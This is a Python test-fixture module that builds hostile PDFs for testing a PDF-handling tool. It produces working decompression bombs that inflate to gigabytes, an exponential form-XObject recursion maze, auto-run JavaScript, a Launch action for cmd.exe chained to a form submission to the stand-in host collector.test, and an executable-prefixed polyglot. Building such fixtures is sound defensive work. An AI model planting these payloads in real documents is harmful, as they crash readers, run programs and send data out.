"""Hostile PDFs, written at test time by hand (small files, never committed): what a vendor's file may do
to the tools that open it, and the actions a file may have a viewer run.

``assemble`` writes a PDF of numbered objects with a classic cross-reference table; ``packed``
puts objects into an object stream indexed by a cross-reference stream, as PDF 1.5 writers do.
``deflated`` compresses data that is one ``head`` and then ``chunk`` many times, without
compressing all of it: a gigabyte costs milliseconds.
"""
from __future__ import annotations

import zlib
from io import BytesIO

import pikepdf

from conftest import pdf

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R%s >>"
TEXT_OPERATORS = b"BT /F1 12 Tf 72 720 Td (A signed contract.) Tj ET\n"
DRAWING_OPERATORS = b"0 0 m 612 792 l S\n"


def stream(entries: bytes, data: bytes) -> bytes:
    return b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def assemble(objects: dict[int, bytes], root: int = 1, prefix: bytes = b"") -> bytes:
    """A PDF of ``objects`` (by number, each its bytes), catalog ``root``, after ``prefix`` bytes if any."""
    out = bytearray(prefix + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out) - len(prefix)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    table = len(out) - len(prefix)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, table)
    return bytes(out)


def deflated(head: bytes, chunk: bytes, count: int, times: int = 2) -> bytes:
    """``head + chunk * count`` Flate-compressed ``times`` times over.

    After a full flush a compressor starts afresh, so the compressed ``chunk`` is the same bytes
    each time: it is repeated, and the zlib trailer's checksum is computed chunk by chunk.
    """
    compressor = zlib.compressobj(9)
    first = compressor.compress(head + chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert block == compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    checksum = zlib.adler32(head)
    for _ in range(count):
        checksum = zlib.adler32(chunk, checksum)
    data = first + block * (count - 1) + b"\x03\x00" + checksum.to_bytes(4, "big")
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def deflate_bomb(chunk: bytes = TEXT_OPERATORS, inflated: int = 1 << 30) -> bytes:
    """One page whose content stream, Flate-compressed twice, is ``inflated`` bytes of ``chunk`` repeated:
    a few kilobytes of file."""
    chunk = chunk * ((1 << 20) // len(chunk))
    content = deflated(b"", chunk, inflated // len(chunk))
    return assemble({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: PAGE % b" /Resources << /Font << /F1 5 0 R >> >>",
        4: stream(b"/Filter [/FlateDecode /FlateDecode]", content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    })


def form_maze(levels: int = 12, ways: int = 100, text_at: int | None = None) -> bytes:
    """One page that draws a form under ``ways`` names, which draws the next level's form under as many,
    ``levels`` deep: ``ways ** levels`` paths to a reader that does not remember where it has been. The
    form of level ``text_at`` shows text; none does when it is None."""
    names = b" ".join(b"/N%d 6 0 R" % way for way in range(ways))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: PAGE % (b" /Resources << /XObject << " + names + b" >> >>"),
        4: stream(b"", b"q " + b" ".join(b"/N%d Do" % way for way in range(ways)) + b" Q"),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    for level in range(levels):
        number = 6 + level
        last = level == levels - 1
        names = b"" if last else b" ".join(b"/N%d %d 0 R" % (way, number + 1) for way in range(ways))
        drawn = b"" if last else b" ".join(b"/N%d Do" % way for way in range(ways))
        shown = TEXT_OPERATORS if level == text_at else b""
        objects[number] = stream(b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << "
                                 + names + b" >> /Font << /F1 5 0 R >> >>", b"q " + drawn + b" Q\n" + shown)
    return assemble(objects)


def packed(objects: dict[int, bytes], outside: dict[int, bytes], root: int = 1, filters: bytes = b"",
           padding: tuple[bytes, int] | None = None) -> bytes:
    """A PDF whose ``objects`` are in one object stream (compressed with ``filters``, e.g.
    b"/FlateDecode", or twice over with ``padding``: (chunk, count) of it after the objects),
    and whose ``outside`` objects (streams) are not; a cross-reference stream indexes both."""
    numbers = sorted(objects)
    bodies, index, offset = [], [], 0
    for number in numbers:
        index.append(b"%d %d" % (number, offset))
        bodies.append(objects[number] + b"\n")
        offset += len(bodies[-1])
    head = b" ".join(index) + b"\n"
    data = head + b"".join(bodies)
    if padding is not None:
        data, filters = deflated(data, *padding), b"/Filter [/FlateDecode /FlateDecode]"
    elif filters:
        data = zlib.compress(data, 9)
        filters = b"/Filter " + filters
    object_stream = max([*objects, *outside]) + 1
    all_outside = {**outside, object_stream: stream(b"/Type /ObjStm /N %d /First %d " % (len(numbers), len(head))
                                                    + filters, data)}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(all_outside):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + all_outside[number] + b"\nendobj\n"
    cross_reference = max(all_outside) + 1
    offsets[cross_reference] = len(out)
    rows = []
    for number in range(cross_reference + 1):
        if number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00\x00\x00")
        elif number in objects:
            rows.append(b"\x02" + object_stream.to_bytes(4, "big") + numbers.index(number).to_bytes(4, "big"))
        else:
            rows.append(b"\x00" * 7 + b"\xff\xff")
    entries = b"/Type /XRef /Size %d /W [1 4 4] /Root %d 0 R" % (cross_reference + 1, root)
    out += b"%d 0 obj\n" % cross_reference + stream(entries, b"".join(rows)) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[cross_reference]
    return bytes(out)


def object_stream_bomb(inflated: int = 3 << 29) -> bytes:
    """The catalog and page tree in an object stream that inflates to ``inflated`` bytes (1.5 GiB):
    QPDF inflates all of it to find the catalog, before any content is read."""
    chunk = b" " * (1 << 20)
    return packed({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                   3: PAGE % b""},
                  {4: stream(b"", b"q Q")}, padding=(chunk, inflated // len(chunk)))


def many_contents(parts: int = 300_000) -> bytes:
    """One page whose content is ``parts`` times the same empty stream: in a compressed object
    stream, a few kilobytes."""
    contents = b"[" + b" 4 0 R" * parts + b"]"
    return packed({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                   3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %s >>" % contents},
                  {4: stream(b"", b"")}, filters=b"/FlateDecode")


# --- actions ---------------------------------------------------------------------------------------

def with_actions(change) -> bytes:
    """The accessible test PDF (no finding of check) after ``change(pdf)`` added what it adds."""
    out = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as document:
        change(document)
        document.save(out)
    return out.getvalue()


def javascript(source: str = "app.alert('hello');") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String(source))


def launch(program: str = "cmd.exe") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.Launch, F=pikepdf.String(program))


def open_action_javascript() -> bytes:
    return with_actions(lambda document: setattr(document.Root, "OpenAction", javascript()))


def open_action_launch() -> bytes:
    return with_actions(lambda document: setattr(document.Root, "OpenAction", launch()))


def document_javascript() -> bytes:
    """Document-level JavaScript (/Names /JavaScript), which viewers run as the file opens."""
    def change(document):
        script = document.make_indirect(javascript())
        document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("start"), script])))
    return with_actions(change)


def link_that_launches() -> bytes:
    """A link annotation on the page that launches a program, its action followed by a form submission (/Next)."""
    def change(document):
        submit = pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.SubmitForm,
                                    F=pikepdf.String("https://collector.test/"))
        action = launch()
        action.Next = submit
        link = document.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                                         Rect=[0, 0, 100, 100], A=action))
        document.pages[0].obj.Annots = pikepdf.Array([link])
    return with_actions(change)


def with_prefix(size: int = 512) -> bytes:
    """The accessible test PDF after ``size`` bytes of another format: a file that is also, say, a program."""
    return b"MZ" + b"\x90" * (size - 2) + pdf()
